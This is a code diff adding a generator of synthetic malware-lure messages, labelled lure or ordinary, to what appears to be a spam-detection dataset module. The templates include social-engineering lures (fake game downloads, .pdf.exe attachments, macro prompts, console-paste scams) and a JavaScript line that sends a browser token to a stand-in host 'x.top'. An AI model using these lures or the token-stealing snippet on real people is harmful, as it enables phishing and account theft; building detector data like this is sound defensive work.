@@ -9,6 +9,7 @@ SMS-style spam and ordinary texts. Written for this project from templates
     scam_links(split, n, seed) -> list[str]      messages carrying a scam link
     benign_links(n, seed) -> list[str]           messages with ordinary links
     sms(split, n, seed) -> list[tuple[str, int]] (text, 1 spam / 0 ordinary)
+    malware_lures(split, n, seed) -> list[tuple[str, list[str]]]  (text, attached file names)
 """
 from __future__ import annotations
 
@@ -234,4 +235,53 @@ def sms(split: str, n: int = 600, seed: int = 3, spam_share: float = 0.3) -> lis
             out.append((text, 1))
         else:
             out.append((_fill(rng, rng.choice(ham_t)), 0))
+    return out
+
+
+# ---------------------------------------------------------- malware lures
+
+_LURE_TUNE = [
+    ("hey can you test my game? <https://www.mediafire.com/file/{h}/{Game}.zip|{Game}.zip>", []),
+    ("try my new launcher, password for the zip is 1234 <https://mega.nz/file/{h}>", []),
+    ("here is the invoice", ["invoice_{n}.pdf.exe"]),
+    ("please enable macros to view the document", ["Payment_{n}.docm"]),
+    ("paste this code into your console to get the hypesquad badge: {js}", []),
+    ("download this fix {url}/patch_{n}.exe", []),
+    ("free cracked photoshop download here {url}/ps.zip", []),
+]
+_LURE_HELD = [
+    ("Could you play my beta game and tell me what you think? {url}/{Game}_Setup.rar", []),
+    ("yo check out my game bro, the file's password: {n}", ["{Game}.rar"]),
+    ("Scan of the contract attached", ["Contract_{n}.pdf.scr"]),
+    ("To see the content click Enable Content at the top", ["Report_{n}.xls"]),
+    ("open dev tools (ctrl+shift+i), go to console and paste this to unlock free nitro: {js}", []),
+    ("photos from the party {url}/IMG_{n}.jpg.exe", []),
+    ("run our new tool to boost your fps <https://gofile.io/d/{h}>", []),
+    ("important update for your account, install it: {url}/update.msi", []),
+]
+_LURE_BENIGN = [
+    "can you test my PR? https://github.com/acme/app/pull/{n}", "try my app on TestFlight, link in the channel topic",
+    "enable the feature flag in the settings", "the archive password policy is in the wiki",
+    "open the browser console and paste the error here", "check my fork https://github.com/jdoe/app",
+    "I attached the logs", "the release is at https://github.com/acme/app/releases/tag/v{n}",
+    "download the docs PDF from https://docs.acme.io/guide.pdf", "run the tests with make test",
+]
+
+
+def malware_lures(split: str, n: int = 200, seed: int = 4) -> list[tuple[str, list[str], int]]:
+    """(text, attached file names, 1 lure / 0 ordinary)."""
+    rng = random.Random(f"lure-{split}-{seed}")
+    templates = _LURE_TUNE if split == "tune" else _LURE_HELD
+    out = []
+    for _ in range(n):
+        fill = dict(h="".join(rng.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(10)),
+                    n=rng.randrange(1000, 99999), Game=rng.choice(("Fortnite_Pro", "MyGame", "SpaceRun", "Untitled")),
+                    url=rng.choice(("https://cdn-files.xyz/d", "https://dl.filesend.ru", "https://www.dropbox.com/s/a1b2",
+                                    "http://updates-server.top/get")),
+                    js="`" + rng.choice(("let t=(webpackChunkdiscord_app.push(...))", "fetch('//x.top/?t='+localStorage.token)")) + "`")
+        if rng.random() < 0.5:
+            text, files = rng.choice(templates)
+            out.append((text.format(**fill), [f.format(**fill) for f in files], 1))
+        else:
+            out.append((rng.choice(_LURE_BENIGN).format(**fill), [], 0))
     return out
